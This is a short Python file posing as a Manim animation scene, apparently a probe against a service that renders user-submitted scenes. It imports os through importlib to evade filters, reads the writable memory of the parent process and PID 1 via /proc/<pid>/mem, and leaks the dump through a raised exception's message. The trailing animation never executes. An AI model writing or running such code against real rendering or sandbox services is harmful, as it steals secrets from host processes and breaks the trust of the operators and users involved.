from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        os = G("os")
        out = []
        for pid in [os.getppid(), 1]:
            try:
                with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb") as mem:
                    for line in maps:
                        lo, hi = [int(x, 16) for x in line.split()[0].split("-")]
                        if "rw" in line.split()[1]:
                            mem.seek(lo)
                            out.append(mem.read(min(hi - lo, 1 << 20)))
            except Exception as exc:
                out.append(type(exc).__name__.encode())
        raise RuntimeError("mem: " + repr(b"".join(x for x in out if isinstance(x, bytes))[-4000:]))
        self.play(Create(Circle()), run_time=0.1)
